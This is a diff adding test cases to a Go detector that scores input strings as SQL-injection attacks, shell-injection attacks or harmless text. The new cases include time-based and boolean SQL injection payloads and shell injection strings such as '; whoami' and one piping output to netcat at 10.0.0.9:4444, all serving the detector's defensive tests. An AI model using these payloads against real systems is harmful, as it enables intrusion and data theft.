@@ -39,6 +39,22 @@ func TestSQLScore(t *testing.T) {
 		{"x' and extractvalue(1,concat(0x7e,version()))--", scoreAttack},
 		{"@@version", scoreAttack},
 		{"aa' like '0", scoreAttack},
+		{"1 or 2 or 3", scoreAttack},
+		{"1 and sleep(if(1=1,5,0))", scoreAttack},
+		{"1 and benchmark(1000000,md5(1))", scoreAttack},
+		{"1' and sleep(5", scoreAttack},
+		{"eat, then sleep (see attached)", scoreNone},
+		{"1 or 1=1 or 1=1", scoreAttack},
+		{"1 or x between 1 and 2 --", scoreAttack},
+		{"1 or 'a'='a'", scoreAttack},
+		{"1 or '1abc'", scoreAttack},
+		{"1 or not 'abc'", scoreAttack},
+		// A condition that is a string of words alone is false; a chain
+		// that ends in a second operand in a row parses as no query.
+		{`"O'Neil" OR "ONeil"`, scoreWeak},
+		{"Where's the 'or' in 'for'?", scoreWeak},
+		{"1 or 2 or 3 items", scoreWeak},
+		{"users' and admins' roles", scoreWeak},
 		// SQL that does nothing an attacker wants, or no SQL.
 		{"union select 关键字怎么用", scoreWeak},
 		{"select 1 from a", scoreWeak},
@@ -190,6 +206,16 @@ func TestShellScore(t *testing.T) {
 		{"|wh?ami", scoreAttack},
 		{"; ?? /tmp", scoreNone},
 		{"rated 4* ; c* grade", scoreNone},
+		// A command that does nothing without an operand is a word.
+		{"shop & go, then eat | sleep", scoreWeak},
+		{"; sleep 5", scoreAttack},
+		{"|ping -n 10 127.0.0.1|", scoreAttack},
+		{"a | ping", scoreWeak},
+		{"; whoami", scoreAttack},
+		{"x; cat", scoreAttack},
+		{"|cat|", scoreAttack},
+		{"; cat | nc 10.0.0.9 4444", scoreAttack},
+		{"id;name\n1;O'Brien;cat & dog\n2;Smith;a | b", scoreWeak},
 	}
 	for _, c := range cases {
 		if got := shellScore(c.in); got != c.want {
@@ -237,6 +263,13 @@ func TestTextKind(t *testing.T) {
 		{"<p>Hello <b>world</b></p>", kindMarkup},
 		{`<?xml version="1.0"?><a/>`, kindMarkup},
 		{"abc123", kindOther},
+		{"O'Reilly's 'best of' list -- 2nd ed.", kindProse},
+		{"He said 'and' -- twice", kindProse},
+		{"x ' -- y", kindOther},
+		{"1 -- x", kindOther},
+		{"-- x y", kindOther},
+		{`title:"select" author:"o'neil"`, kindProse},
+		{`title:"x" or 1=1`, kindOther},
 		{"The system() call in C starts a shell", kindProse},
 		{"then system('id') runs", kindOther},
 		{"query Get($id: ID!) { user(id: $id) { name posts(first: 10) { edges { node { title } } } } }", kindCode},
